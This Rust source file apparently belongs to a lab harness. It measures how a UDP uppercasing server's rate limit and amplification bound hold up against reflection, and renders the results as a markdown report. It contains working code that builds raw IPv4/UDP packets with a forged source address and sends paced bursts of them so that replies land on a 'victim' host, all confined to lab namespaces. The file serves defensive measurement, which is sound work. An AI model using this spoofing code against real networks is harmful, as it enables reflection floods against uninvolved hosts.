//! The reflection demo: what a forged source address makes the server do
//! to someone else, and what its UDP limits leave of it.
//!
//! From the client's host, a raw socket sends datagrams to the server whose
//! IP header names the victim as their source (the server cannot tell);
//! every reply goes to the victim, on a link of its own, where a socket
//! counts what arrives. The request is the worst case for size: `ΐ`
//! uppercases to three code points, six bytes for two. The same bounded
//! burst is sent three times: the limits off, the defaults (the rate limit
//! per source network and the 3× bound), and `--udp-max-amplification 1`.

use super::hosts::{in_namespace, Namespaces, SERVER_ADDR, VICTIM_ADDR};
use super::loss::LabServer;
use crate::error::ReportError;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::path::Path;
use std::sync::mpsc;
use std::time::{Duration, Instant};

/// Forged datagrams per setting, and how fast they go.
const SENT: u32 = 10_000;
const PER_SECOND: u32 = 10_000;
/// The victim's port (not one the server refuses to answer).
const VICTIM_PORT: u16 = 40_000;
/// Characters per request: 200 bytes, 600 once uppercased.
const CHARS: usize = 100;

/// One setting's result.
#[derive(Debug, Clone, PartialEq)]
pub(super) struct Reflection {
    /// What was set, as the flags say it.
    pub(super) setting: &'static str,
    pub(super) sent: u32,
    /// UDP payload bytes the attacker sent.
    pub(super) sent_bytes: u64,
    pub(super) replies: u64,
    /// UDP payload bytes that reached the victim.
    pub(super) reply_bytes: u64,
}

impl Reflection {
    /// A reply's bytes per request byte, over the datagrams answered.
    pub(super) fn per_reply(&self) -> f64 {
        if self.replies == 0 || self.sent == 0 {
            0.0
        } else {
            let request = self.sent_bytes as f64 / f64::from(self.sent);
            self.reply_bytes as f64 / self.replies as f64 / request
        }
    }

    /// Bytes at the victim per byte the attacker sent.
    pub(super) fn amplification(&self) -> f64 {
        if self.sent_bytes == 0 {
            0.0
        } else {
            self.reply_bytes as f64 / self.sent_bytes as f64
        }
    }
}

/// The three settings, each with a fresh server.
pub(super) fn measure(names: &Namespaces, binary: &Path) -> Result<Vec<Reflection>, ReportError> {
    let settings: [(&'static str, &[&str]); 3] = [
        (
            "limits off (`--udp-rate-limit 0 --udp-max-amplification 100`)",
            &["--udp-rate-limit", "0", "--udp-max-amplification", "100"],
        ),
        ("the defaults", &[]),
        (
            "`--udp-max-amplification 1`",
            &["--udp-max-amplification", "1"],
        ),
    ];
    let mut rows = Vec::new();
    for (setting, flags) in settings {
        let _server = LabServer::start(names, binary, flags)?;
        let (replies, reply_bytes, sent_bytes) = reflect(names)?;
        rows.push(Reflection {
            setting,
            sent: SENT,
            sent_bytes,
            replies,
            reply_bytes,
        });
    }
    Ok(rows)
}

/// One burst: the victim listening, then the forged datagrams. Returns the
/// replies and bytes at the victim and the bytes the attacker sent.
fn reflect(names: &Namespaces) -> Result<(u64, u64, u64), ReportError> {
    let (ready_tx, ready_rx) = mpsc::channel();
    let (done_tx, done_rx) = mpsc::channel::<()>();
    let victim = in_namespace(&names.victim, move || {
        let address = SocketAddr::from((parse(VICTIM_ADDR)?, VICTIM_PORT));
        let socket = Socket::new(Domain::IPV4, Type::DGRAM, None)
            .map_err(ReportError::io("victim: cannot open a socket"))?;
        // Room for a burst while this thread waits for a CPU, so that what
        // is counted is what the server sent, not what the victim kept up
        // with (best effort: the kernel caps it at rmem_max).
        let _ = socket.set_recv_buffer_size(16 << 20);
        socket
            .bind(&address.into())
            .map_err(ReportError::io(format!("victim: cannot bind {address}")))?;
        let socket = UdpSocket::from(socket);
        socket
            .set_read_timeout(Some(Duration::from_millis(50)))
            .map_err(ReportError::io("victim"))?;
        let _ = ready_tx.send(());
        let (mut replies, mut bytes) = (0u64, 0u64);
        let mut buf = vec![0u8; 65_536];
        // Until the attacker is done and nothing came for half a second
        // (the last replies are in flight), and never past a bound.
        let deadline = Instant::now() + Duration::from_secs(30);
        let (mut done, mut last) = (false, Instant::now());
        while Instant::now() < deadline {
            if let Ok(n) = socket.recv(&mut buf) {
                replies += 1;
                bytes += n as u64;
                last = Instant::now();
            }
            if !done && done_rx.try_recv().is_ok() {
                (done, last) = (true, Instant::now());
            }
            if done && last.elapsed() > Duration::from_millis(500) {
                break;
            }
        }
        Ok((replies, bytes))
    });
    ready_rx
        .recv_timeout(Duration::from_secs(10))
        .map_err(|_| ReportError::Check("the victim's socket did not open".into()))?;
    let attacker = in_namespace(&names.client, move || {
        let sent = forge_burst();
        let _ = done_tx.send(());
        sent
    });
    let sent_bytes = attacker
        .join()
        .map_err(|_| ReportError::Panicked("attacker's"))??;
    let (replies, reply_bytes) = victim
        .join()
        .map_err(|_| ReportError::Panicked("victim's"))??;
    Ok((replies, reply_bytes, sent_bytes))
}

fn parse(address: &str) -> Result<Ipv4Addr, ReportError> {
    address
        .parse()
        .map_err(|e| ReportError::Check(format!("bad address {address}: {e}")))
}

/// [`SENT`] datagrams from the victim's address to the server, paced at
/// [`PER_SECOND`]. Returns the UDP payload bytes sent.
fn forge_burst() -> Result<u64, ReportError> {
    let (victim, server) = (parse(VICTIM_ADDR)?, parse(SERVER_ADDR)?);
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))
        .map_err(ReportError::io("cannot open a raw socket"))?;
    socket
        .set_header_included_v4(true)
        .map_err(ReportError::io("IP_HDRINCL"))?;
    let payload = "ΐ".repeat(CHARS);
    let packet = forged_datagram(victim, VICTIM_PORT, server, 7878, payload.as_bytes());
    let to = SockAddr::from(SocketAddrV4::new(server, 7878));
    let interval = Duration::from_secs(1) / PER_SECOND;
    let start = Instant::now();
    let mut bytes = 0;
    for i in 0..SENT {
        let due = start + interval * i;
        if let Some(wait) = due.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait);
        }
        // A full queue drops a datagram, as a network may: it is not counted.
        if socket.send_to(&packet, &to).is_ok() {
            bytes += payload.len() as u64;
        }
    }
    Ok(bytes)
}

/// An IPv4 packet carrying a UDP datagram whose source is whatever the
/// caller says. The kernel fills in the total length, the IP checksum and
/// the packet id (raw(7)); a zero UDP checksum means none (RFC 768).
fn forged_datagram(
    source: Ipv4Addr,
    source_port: u16,
    destination: Ipv4Addr,
    port: u16,
    payload: &[u8],
) -> Vec<u8> {
    let udp_len = 8 + payload.len() as u16;
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend_from_slice(&source.octets());
    packet.extend_from_slice(&destination.octets());
    packet.extend_from_slice(&source_port.to_be_bytes());
    packet.extend_from_slice(&port.to_be_bytes());
    packet.extend_from_slice(&udp_len.to_be_bytes());
    packet.extend_from_slice(&[0, 0]);
    packet.extend_from_slice(payload);
    packet
}

/// `lab.md`'s section on the reflection demo, its sentences computed
/// from the numbers.
pub(super) fn render(rows: &[Reflection]) -> String {
    use std::fmt::Write as _;
    let mut md = String::from("## A forged source address: reflection at a victim\n\n");
    let _ = writeln!(
        md,
        "From the client's host, a raw socket sent {SENT} datagrams at {PER_SECOND}/s to \
         the server, each naming a third host, the victim ({VICTIM_ADDR}), as its source; \
         each held {CHARS} × `ΐ` ({} bytes, the request whose uppercase is largest: 3×). \
         A socket on the victim counted what arrived.\n",
        2 * CHARS
    );
    let _ = writeln!(md, "| server | forged datagrams (bytes) | replies at the victim | bytes at the victim | victim's bytes per attacker byte |");
    let _ = writeln!(md, "|---|---|---|---|---|");
    for r in rows {
        let _ = writeln!(
            md,
            "| {} | {} ({}) | {} | {} | {:.2}× |",
            r.setting,
            r.sent,
            r.sent_bytes,
            r.replies,
            r.reply_bytes,
            r.amplification()
        );
    }
    let _ = writeln!(md);
    if let [off, defaults, strict] = rows {
        let share = |r: &Reflection| 100.0 * r.replies as f64 / f64::from(r.sent.max(1));
        let fewer = |r: &Reflection| {
            if r.reply_bytes == 0 {
                "none of those bytes".to_string()
            } else {
                format!(
                    "{:.1}× fewer bytes",
                    off.reply_bytes as f64 / r.reply_bytes as f64
                )
            }
        };
        let _ = writeln!(
            md,
            "With the limits off, the server aimed {} replies ({:.1} % of the forged datagrams) \
             at a host that asked for nothing: {} bytes for the attacker's {}, {:.2}× what the \
             attacker paid. With the defaults, {} replies ({:.1} %) arrived, {}: the rate limit \
             answers one source network a burst and then a steady rate, whoever sends in its \
             name, and each reply is still up to 3× its request ({:.2}× for each one \
             answered). With \
             `--udp-max-amplification 1`, the victim got {} replies and {:.2}× the attacker's \
             bytes: a reply that would outgrow its request is replaced by the short error line, \
             so a forged source buys the attacker nothing it did not pay for. A service exposed \
             to untrusted sources wants both limits; the lab's loss runs above turn the rate \
             limit off, as they measure the network, not the server.",
            off.replies,
            share(off),
            off.reply_bytes,
            off.sent_bytes,
            off.amplification(),
            defaults.replies,
            share(defaults),
            fewer(defaults),
            defaults.per_reply(),
            strict.replies,
            strict.amplification(),
        );
    }
    md
}

#[cfg(test)]
mod tests {
    use super::*;

    fn row(setting: &'static str, replies: u64, reply_bytes: u64) -> Reflection {
        Reflection {
            setting,
            sent: 10_000,
            sent_bytes: 2_000_000,
            replies,
            reply_bytes,
        }
    }

    #[test]
    fn the_sentence_comes_from_the_numbers() {
        let md = render(&[
            row("off", 9_900, 5_940_000),
            row("defaults", 2_000, 1_200_000),
            row("strict", 10_000, 210_000),
        ]);
        assert!(
            md.contains("| off | 10000 (2000000) | 9900 | 5940000 | 2.97× |"),
            "{md}"
        );
        assert!(
            md.contains("aimed 9900 replies (99.0 % of the forged datagrams)"),
            "{md}"
        );
        assert!(
            md.contains("5940000 bytes for the attacker's 2000000, 2.97×"),
            "{md}"
        );
        assert!(
            md.contains("2000 replies (20.0 %) arrived, 5.0× fewer bytes"),
            "{md}"
        );
        assert!(
            md.contains("the victim got 10000 replies and 0.10×"),
            "{md}"
        );
    }

    #[test]
    fn the_forged_datagram_names_the_victim_as_its_source() {
        let packet = forged_datagram(
            Ipv4Addr::new(10, 253, 1, 2),
            40_000,
            Ipv4Addr::new(10, 253, 0, 1),
            7878,
            b"hi",
        );
        assert_eq!(packet.len(), 20 + 8 + 2);
        assert_eq!(&packet[12..16], &[10, 253, 1, 2], "source address");
        assert_eq!(&packet[16..20], &[10, 253, 0, 1], "destination address");
        assert_eq!(packet[9], 17, "UDP");
        assert_eq!(&packet[20..22], &40_000u16.to_be_bytes());
        assert_eq!(&packet[22..24], &7878u16.to_be_bytes());
        assert_eq!(&packet[24..26], &10u16.to_be_bytes(), "UDP length");
        assert_eq!(&packet[28..], b"hi");
    }
}
